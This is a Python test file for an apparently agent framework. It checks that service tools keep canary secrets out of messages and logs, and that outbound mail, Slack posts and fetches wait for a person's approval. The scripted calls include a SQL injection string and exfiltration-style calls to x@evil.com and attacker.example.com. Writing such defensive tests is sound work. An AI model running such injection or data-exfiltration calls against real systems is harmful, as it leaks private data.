"""The tools of config/services.yaml in a run: governed and journaled like any other, and no secret anywhere."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.unit.tools.site import Page, Seen, Site, serving

from quarterdeck.engine.crew import Crew
from quarterdeck.spec.workspace import Workspace
from quarterdeck.testing import ScriptedModel, call, text
from quarterdeck.testing.catalog import ScriptedCatalog
from quarterdeck.tools.declared import all_tools

CANARIES = {
    "PETS_VALUE": "canary-pets-4711-aaaa", "MAIL_PLACE": "smtp://crew:canary-mail-4711-bbbb@127.0.0.1:1",
    "HOOK_PLACE": "http://127.0.0.1:1/services/canary-hook-4711-cccc", "FIND_VALUE": "canary-find-4711-dddd",
}  # fmt: skip
PETS = {
    "openapi": "3.1.0",
    "paths": {
        "/pets": {
            "get": {
                "operationId": "list",
                "parameters": [{"name": "tag", "in": "query", "schema": {"type": "string"}}],
            },
            "post": {"operationId": "add", "requestBody": {"content": {"application/json": {"schema": {}}}}},
        }
    },
}
AGENT = {"role": "Clerk", "goal": "Be right.", "backstory": "You are careful."}


@pytest.fixture
def site(loopback: None) -> Iterator[Site]:
    with serving() as site:
        yield site


@pytest.fixture
def workspace(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("SHOP_PLACE", f"sqlite:///{tmp_path / 'shop.db'}")
    with sqlite3.connect(tmp_path / "shop.db") as connection:
        connection.execute("CREATE TABLE orders (id, customer)")
        connection.execute("INSERT INTO orders VALUES (1, 'ada')")
    connection.close()
    auth = {"kind": "bearer", "secret_env": "PETS_VALUE"}
    query = {
        "description": "Orders of one customer.",
        "sql": "SELECT id FROM orders WHERE customer = :who",
        "parameters": {"who": {"description": "Who."}},
    }
    services = {
        "apis": {
            "pets": {"spec": "config/pets.json", "base_url": site.url, "owner": "x", "auth": auth, "private": True}
        },
        "databases": {"shop": {"url_env": "SHOP_PLACE", "owner": "x", "queries": {"orders": query}}},
        "mail": {"smtp_env": "MAIL_PLACE", "sender": "crew@example.org"},
        "slack": {"webhook_env": "HOOK_PLACE", "private": True},
        "search": {"provider": "brave", "url": site.url, "key_env": "FIND_VALUE", "private": True},
    }
    for folder in ("config", "crews"):
        (tmp_path / folder).mkdir()
    (tmp_path / "config" / "services.yaml").write_text(yaml.safe_dump(services))
    (tmp_path / "config" / "pets.json").write_text(json.dumps(PETS))
    return Workspace(tmp_path)


def crew(workspace: Workspace, model: ScriptedModel, tools: list[str]) -> Crew:
    task = {"agent": "clerk", "description": "Work.", "expected_output": "Text."}
    declared = {"crew": "trial", "agents": {"clerk": {**AGENT, "tools": tools}}, "tasks": {"work": task}}
    path = workspace.root / "crews" / "trial.yaml"
    path.write_text(yaml.safe_dump(declared))
    url = f"sqlite:///{workspace.root}/journal.db"
    return Crew.load("trial", workspace=workspace, database_url=url, catalog=ScriptedCatalog(model))


def test_reading_is_free_and_no_secret_is_kept_or_told(site: Site, workspace: Workspace) -> None:
    def echo(seen: Seen) -> Page:
        return Page(json.dumps(seen.headers).encode(), 200, {"Content-Type": "application/json"})

    site.pages["/pets"] = site.pages["/res/v1/web/search"] = echo
    steps: list[Any] = [
        call("pets.list"), call("shop.orders", who="ada"), call("shop.orders", who="' OR 1=1 --"),
        call("web.search", query="tides"), text("Done."),
    ]  # fmt: skip
    tools = ["pets.list", "shop.orders", "web.search"]
    with ScriptedModel(steps) as model:
        result = crew(workspace, model, tools).kickoff()
    told = " ".join(str(message.content) for request in model.requests for message in request.messages)
    assert '"rows": [[1]]' in told and '"rows": []' in told
    assert site.seen[0].headers["authorization"] == f"Bearer {CANARIES['PETS_VALUE']}"
    stored = b"".join(path.read_bytes() for path in workspace.root.glob("journal.db*") if path.is_file())
    for piece in ("4711-aaaa", "4711-dddd"):
        assert piece not in told and piece.encode() not in stored
    assert result.tool_calls == 4


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("pets.add", {"body": {"name": "Rex"}}),
        ("mail.send", {"to": ["x@evil.com"], "subject": "a", "body": "b"}),
        ("slack.post", {"text": "a"}),
        ("web.fetch", {"url": "http://attacker.example.com/?q=secret"}),
    ],
)
def test_what_leaves_waits_for_a_person(site: Site, workspace: Workspace, tool: str, arguments: dict[str, Any]) -> None:
    with ScriptedModel([call(tool, **arguments)]) as model:
        result = crew(workspace, model, [tool]).kickoff()
    assert (result.status, result.code) == ("waiting", "approval")
    assert not site.seen


def test_what_was_read_in_confidence_is_not_asked_of_a_service(site: Site, workspace: Workspace) -> None:
    site.pages["/pets"] = Page(b"[]", 200, {"Content-Type": "application/json"})
    services = yaml.safe_load((workspace.root / "config" / "services.yaml").read_text())
    services["databases"]["shop"]["sensitive"] = True
    (workspace.root / "config" / "services.yaml").write_text(yaml.safe_dump(services))
    steps = [call("pets.list", tag="young"), call("shop.orders", who="ada"), call("pets.list", tag="ada ordered 1")]
    with ScriptedModel(steps) as model:
        result = crew(workspace, model, ["pets.list", "shop.orders"]).kickoff()
    assert (result.status, result.code) == ("waiting", "approval")
    assert [seen.path for seen in site.seen] == ["/pets?tag=young"]


def test_a_service_of_ones_own_is_asked_freely_where_the_operator_says_so(site: Site, workspace: Workspace) -> None:
    site.pages["/pets"] = Page(b"[]", 200, {"Content-Type": "application/json"})
    governance = {"tools": {"shop.*": {"sensitive": True}, "pets.list": {"sinks": {}}}}
    (workspace.root / "config" / "governance.yaml").write_text(yaml.safe_dump(governance))
    with ScriptedModel([call("shop.orders", who="ada"), call("pets.list", tag="1"), text("Done.")]) as model:
        result = crew(workspace, model, ["pets.list", "shop.orders"]).kickoff()
    assert result.status == "succeeded" and [seen.path for seen in site.seen] == ["/pets?tag=1"]


def test_what_was_not_granted_is_not_called(site: Site, workspace: Workspace) -> None:
    with ScriptedModel([call("shop.orders", who="ada"), text("No.")]) as model:
        crew(workspace, model, ["pets.list"]).kickoff()
    assert "may not use" in str(model.requests[1].messages[-1].content) and not site.seen


def test_services_stand_among_all_tools_of_the_workspace(workspace: Workspace) -> None:
    assert {"pets.add", "shop.orders", "web.fetch"} <= set(all_tools(workspace))
